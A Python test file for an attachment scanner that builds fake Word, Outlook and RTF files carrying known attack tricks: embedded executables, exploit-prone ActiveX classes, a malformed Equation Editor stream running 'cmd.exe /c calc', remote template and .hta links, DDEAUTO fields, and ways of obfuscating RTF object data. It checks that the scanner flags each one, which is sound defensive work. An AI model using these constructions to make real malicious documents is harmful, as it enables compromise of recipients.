"""Objects in documents: packages, links, old controls, and the many ways in which RTF hides them."""

from __future__ import annotations

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fakes.compound_files import Storage, compound_file
from scop.attachments import Finding, Kind, Severity, examine_thing
from scop.attachments.documents.rtf import read_rtf
from scop.attachments.inspection import Bounds, Inspection
from scop.attachments.thing import Thing

_WORDS = (
    b"{",
    b"}",
    b"\\objdata ",
    b"\\fldinst ",
    b"0105",
    b"02",
    b"\\'4",
    b"\\",
    b"DDE c",
    b"\\template a",
)
_PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)


def _package(name: str, content: bytes) -> bytes:
    path = f"C:\\tmp\\{name}".encode("cp1252") + b"\0"
    head = struct.pack("<H", 2) + name.encode("cp1252") + b"\0" + path + struct.pack("<HH", 0, 3)
    return head + struct.pack("<I", len(path)) + path + struct.pack("<I", len(content)) + content


def _native(name: str, content: bytes) -> bytes:
    package = _package(name, content)
    return struct.pack("<I", len(package)) + package


def _text(octets: bytes) -> bytes:
    return struct.pack("<I", len(octets) + 1) + octets + b"\0"


def _ole1(name: bytes, content: bytes) -> bytes:
    return struct.pack("<II", 0x501, 2) + _text(name) + bytes(8) + struct.pack("<I", len(content)) + content


def _rtf(octets: bytes) -> bytes:
    return b"{\\rtf1 hello {\\object\\objemb{\\*\\objdata " + octets.hex().encode() + b"}}}"


def _found(octets: bytes, name: str = "letter.doc") -> list[Finding]:
    return list(examine_thing(Thing(octets, name)))


def _worst(octets: bytes, name: str = "letter.doc") -> set[tuple[Kind, Severity]]:
    return {(one.kind, one.severity) for one in _found(octets, name) if one.severity is not Severity.NOTE}


def test_program_in_a_word_document_is_found_by_its_name() -> None:
    """A program in a package is found at its place, with the name that the packer gave it."""
    pool = Storage({}, {"_1": Storage({"\x01Ole10Native": _native("run.exe", _PROGRAM)})})
    octets = compound_file(Storage({"WordDocument": b"text"}, {"ObjectPool": pool}))
    assert [(Kind.EXECUTABLE, Severity.DANGEROUS, "run.exe"), (Kind.EMBEDDED, Severity.NOTE, "")] == [
        (one.kind, one.severity, one.place) for one in _found(octets)
    ]


def test_saved_mail_gives_its_attachments() -> None:
    """What is attached to a saved Outlook mail is looked into under its long name."""
    attached = Storage({"__substg1.0_37010102": _PROGRAM, "__substg1.0_3707001F": "setup.exe".encode("utf-16-le")})
    octets = compound_file(Storage({"__properties_version1.0": b"x"}, {"__attach_version1.0_#00000000": attached}))
    assert [Kind.EXECUTABLE] == [one.kind for one in _found(octets, "mail.msg") if one.place == "setup.exe"]


def test_saved_mail_whose_reminder_sounds_from_elsewhere_is_told() -> None:
    """Outlook fetches the sound of a reminder unasked, with a login."""
    share = "\\\\192.0.2.1\\a\\b.wav".encode("utf-16-le")
    octets = compound_file(Storage({"__properties_version1.0": b"x", "__substg1.0_8001001F": share}))
    assert [(Kind.SHORTCUT, Severity.SUSPICIOUS)] == [(one.kind, one.severity) for one in _found(octets, "mail.msg")]


@pytest.mark.parametrize("clsid", ["BDD1F04B-858B-11D1-B16A-00C0F0283628", "D27CDB6E-AE6D-11CF-96B8-444553540000"])
def test_control_with_a_hole_is_dangerous(clsid: str) -> None:
    """A class that is embedded only to break in is dangerous."""
    octets = compound_file(Storage({"WordDocument": b""}, {"ObjectPool": Storage({}, {"_1": Storage(clsid=clsid)})}))
    assert {(Kind.EMBEDDED, Severity.DANGEROUS)} == _worst(octets)


def test_honest_equation_is_a_note() -> None:
    """An equation of the old editor is nothing as the editor writes it, and dangerous in any other form."""
    clsid = "0002CE02-0000-0000-C000-000000000046"
    honest = b"\x1c\0\0\0\2\0" + bytes(22) + b"\3\1\1\3\x0a\x0a\1\x12\x83x\0\2\x86=\0\0" + bytes(40)
    broken = b"\x1c\0\0\0\2\0" + bytes(22) + b"\3\1\1\3\x0a\x0a\1\x08Z\x5acmd.exe /c calc&" + b"A" * 26 + b"\x12\x0cC\0"
    found = [
        _worst(compound_file(Storage({}, {"_1": Storage({"Equation Native": stream}, clsid=clsid)})))
        for stream in (honest, broken)
    ]
    assert [set(), {(Kind.EMBEDDED, Severity.DANGEROUS)}] == found


def test_linked_object_is_told_where_it_comes_from() -> None:
    """An object that is loaded from the Internet when the document is opened is dangerous."""
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
    address = "http://x.example/a.hta\0".encode("utf-16-le")
    stream = b"\1\0\0\2\1\0\0\0" + bytes(12) + moniker + struct.pack("<I", len(address)) + address
    octets = compound_file(Storage({}, {"ObjectPool": Storage({}, {"_1": Storage({"\x01Ole": stream})})}))
    assert {(Kind.TEMPLATE, Severity.DANGEROUS)} == _worst(octets)


def test_rtf_gives_its_package() -> None:
    """The file in a package of RTF is looked into."""
    found = _worst(_rtf(_ole1(b"Package", _package("run.exe", _PROGRAM))))
    assert {(Kind.EXECUTABLE, Severity.DANGEROUS)} == found


@pytest.mark.parametrize(
    "hide",
    [
        lambda digits: digits.replace(b"4d5a", b"4d\r\n\t 5a"),
        lambda digits: digits.replace(b"4d5a", b"4d{\\*\\x 5}a".replace(b" 5}", b"}5")),
        lambda digits: digits[:40] + b"{\\object}{\\y}" + digits[40:],
        lambda digits: digits[:40] + b"\\'11\\par \\zz-12 " + digits[40:],
        lambda digits: digits.upper(),
        lambda digits: b"{\\*\\other}" + digits,
        lambda digits: b"\\bin" + str(len(digits) // 2).encode() + b" " + bytes.fromhex(digits.decode()),
    ],
)
def test_rtf_cannot_hide_its_object(hide: object) -> None:
    """Whatever stands between the digits of an object, it is found as Word finds it."""
    digits = _ole1(b"Package", _package("run.exe", _PROGRAM)).hex().encode()
    assert callable(hide)
    octets = b"{\\rtf1{\\object\\objemb{\\*\\objdata " + hide(digits) + b"}}}"
    assert (Kind.EXECUTABLE, Severity.DANGEROUS) in _worst(octets)


def test_rtf_equation_is_dangerous() -> None:
    """RTF with an object of the equation editor that is no equation breaks in."""
    assert {(Kind.EMBEDDED, Severity.DANGEROUS)} == _worst(_rtf(_ole1(b"Equation.3", b"\x02\xab" + bytes(400))))


def test_rtf_link_and_template_are_told() -> None:
    """A template elsewhere, and a moniker in an object, are loaded when the text is opened."""
    template = b"{\\rtf1{\\*\\template http://x.example/t.dotm}hello}"
    address = "http://x.example/a.hta".encode("utf-16-le")
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", 46) + address
    linked = _rtf(_ole1(b"OLE2Link", moniker))
    assert ({(Kind.TEMPLATE, Severity.DANGEROUS)}, {(Kind.TEMPLATE, Severity.DANGEROUS)}) == (
        _worst(template),
        _worst(linked),
    )


def test_rtf_field_is_found() -> None:
    """A field of RTF that runs a program is dangerous, in plain letters or as numbers."""
    plain = b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\cmd.exe "/k calc"}{\\fldrslt x}}}'
    hidden = b"{\\rtf1{\\field{\\*\\fldinst {\\b \\'44\\u68?E}AUTO cmd x}}}"
    assert ({(Kind.DDE, Severity.DANGEROUS)}, {(Kind.DDE, Severity.DANGEROUS)}) == (_worst(plain), _worst(hidden))


def test_rtf_that_speaks_of_objects_has_none() -> None:
    """A text about RTF writes its words with a backslash of the text."""
    assert [] == _found(
        b"{\\rtf1 the word \\\\objdata 0105000002000000 and \\\\objupdate and \\\\fldinst DDE cmd}", "a.rtf"
    )


@given(
    st.lists(
        st.sampled_from(
            [
                b"{",
                b"}",
                b"\\objdata ",
                b"\\fldinst ",
                b"01050000",
                b"02",
                b"\\'4",
                b"\\",
                b" DDE c",
                b"\\template http://a.b/",
            ]
        ),
        max_size=40,
    )
)
def test_rtf_of_any_shape_is_borne(pieces: list[bytes]) -> None:
    """Any sequence of the words of RTF is read to its end without a fault."""
    thing = Thing(b"{\\rtf1" + b"".join(pieces))
    for found in read_rtf(thing, Inspection(Bounds(), len(thing.octets))):
        assert isinstance(found, Finding | Thing)
